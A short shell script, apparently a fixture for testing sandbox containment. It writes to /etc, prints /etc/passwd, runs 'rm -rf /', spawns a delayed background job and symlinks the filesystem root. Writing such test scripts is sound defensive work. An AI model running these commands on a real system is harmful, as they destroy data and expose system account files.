#!/bin/sh
echo bad > /etc/pwned
cat /etc/passwd
rm -rf / 2>/dev/null
(sleep 30; echo late > late.txt) &
ln -s / outside
echo "now $1"
